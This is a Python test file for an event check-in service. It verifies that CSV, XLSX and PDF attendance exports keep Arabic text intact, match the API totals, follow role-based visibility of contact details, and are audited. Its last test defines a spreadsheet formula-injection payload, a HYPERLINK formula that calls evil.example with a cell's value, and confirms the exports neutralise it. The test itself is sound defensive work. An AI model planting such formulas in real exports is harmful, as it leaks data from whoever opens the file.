"""Exports read back: CSV (UTF-8 with BOM) with csv, XLSX with openpyxl, PDF as extracted text."""

from __future__ import annotations

import csv
import io

import pypdfium2
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from services.checkin.models import AuditEntry
from tests.services.checkin.conftest import EVENT_ID, bearer
from tests.services.checkin.generated_event import generate

URL = f"/api/v1/events/{EVENT_ID}"


@pytest.fixture
def world(session):
    return generate(session)


def report(client, by: str) -> dict:
    return client.get(f"{URL}/attendance?by={by}", headers=bearer("viewer")).get_json()


def test_csv_opens_with_arabic_intact_and_the_api_s_numbers(client, world):
    response = client.get(f"{URL}/attendance.csv?by=agency,day", headers=bearer("organizer"))
    assert response.data.startswith(b"\xef\xbb\xbf")
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["رمز الجهة", "الجهة", "اليوم"]
    expected = report(client, "agency,day")["rows"]
    assert len(rows) - 1 == len(expected)
    for line, row in zip(rows[1:], expected, strict=True):
        assert line[0] == row["agency"]["code"] and line[1] == row["agency"]["name_ar"]
        assert int(line[4]) == row["registered"] and int(line[6]) == row["attended"]


def test_csv_in_english_names_genders_in_english(client, world):
    response = client.get(f"{URL}/attendance.csv?by=gender&lang=en", headers=bearer("viewer"))
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][0] == "Gender"
    assert [row[0] for row in rows[1:]] == ["Female", "Male", "Unspecified"]


def test_xlsx_has_a_summary_a_sheet_per_day_and_every_attendee(client, world):
    response = client.get(f"{URL}/attendance.xlsx", headers=bearer("organizer"))
    workbook = load_workbook(io.BytesIO(response.data))
    days = [d.isoformat() for d in world.days]
    assert workbook.sheetnames == [
        "الملخص",
        *(f"اليوم {n} {day}" for n, day in enumerate(days, start=1)),
        "المشاركون",
    ]
    assert all(sheet.sheet_view.rightToLeft for sheet in workbook.worksheets)
    summary = list(workbook["الملخص"].iter_rows(values_only=True))
    totals = report(client, "agency")["totals"]
    assert summary[-1][:2] == ("المجموع", "جميع الجهات")
    assert summary[-1][3:6] == (totals["registered"], totals["cancelled"], totals["attended"])
    day_rows = list(workbook[f"اليوم 2 {days[1]}"].iter_rows(values_only=True))
    by_day = [r for r in report(client, "agency,day")["rows"] if r["day"] == days[1]]
    assert [r[5] for r in day_rows[1:]] == [r["attended"] for r in by_day]
    _check_attendees(list(workbook["المشاركون"].iter_rows(values_only=True)), world, days)


def _check_attendees(sheet: list[tuple], world, days: list[str]) -> None:
    header, rows = sheet[0], sheet[1:]
    assert header[:3] == ("الشارة", "الاسم بالعربية", "الاسم بالإنجليزية")
    assert header[8:10] == ("البريد الإلكتروني", "الهاتف")
    assert sorted(r[0] for r in rows) == sorted(p.badge_id for p in world.people)
    for row in rows:
        person = world.person(row[0])
        came = [(person.badge_id, d) in world.arrived for d in world.days]
        if person.status == "active":
            assert [bool(cell) for cell in row[10:13]] == came
        assert row[1] == person.name_ar and row[8] == f"d{person.badge_id}@example.org"


def test_xlsx_for_a_viewer_in_english_has_no_contact_and_runs_left_to_right(client, world):
    response = client.get(f"{URL}/attendance.xlsx?lang=en", headers=bearer("viewer"))
    workbook = load_workbook(io.BytesIO(response.data))
    assert not any(sheet.sheet_view.rightToLeft for sheet in workbook.worksheets)
    header = next(workbook["Attendees"].iter_rows(values_only=True))
    assert "E-mail" not in header and header[-1] == "Days attended"


def test_pdf_summary_reads_back_with_agencies_and_totals(client, world):
    response = client.get(f"{URL}/attendance.pdf?lang=en", headers=bearer("viewer"))
    assert response.mimetype == "application/pdf"
    text = _pdf_text(response.data)
    assert "Attendance by agency" in text and "All agencies" in text
    for agency in world.agencies:
        assert agency["code"] in text
    arabic = _pdf_text(client.get(f"{URL}/attendance.pdf?lang=ar", headers=bearer("viewer")).data)
    assert "الحضور حسب الجهة" in arabic


def _pdf_text(data: bytes) -> str:
    document = pypdfium2.PdfDocument(data)
    return "\n".join(page.get_textpage().get_text_range() for page in document)


def test_every_export_is_audited(client, session, world):
    for kind in ("csv", "xlsx", "pdf"):
        client.get(f"{URL}/attendance.{kind}", headers=bearer("organizer"))
    query = select(AuditEntry.action, AuditEntry.detail).where(AuditEntry.action == "report.export")
    assert [detail["format"] for _, detail in session.execute(query)] == ["csv", "xlsx", "pdf"]


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_names_that_look_like_formulas_are_text_in_csv_and_xlsx(client, session, world):
    from sqlalchemy import update

    from services.checkin.models import Agency, EventInfo, RosterEntry

    session.execute(update(Agency).values(name_ar=HOSTILE, name_en=HOSTILE))
    session.execute(update(RosterEntry).values(agency_name_ar=HOSTILE, agency_name_en=HOSTILE))
    session.execute(update(EventInfo).values(name_ar="=1+1", name_en="=1+1"))
    session.commit()
    organizer = bearer("organizer")
    text = client.get(f"{URL}/attendance.csv?by=agency", headers=organizer).data
    cells = [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    book = load_workbook(io.BytesIO(client.get(f"{URL}/attendance.xlsx", headers=organizer).data))
    values = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c for c in values if c.data_type == "f"]
    assert any(c.value == "'" + HOSTILE for c in values)
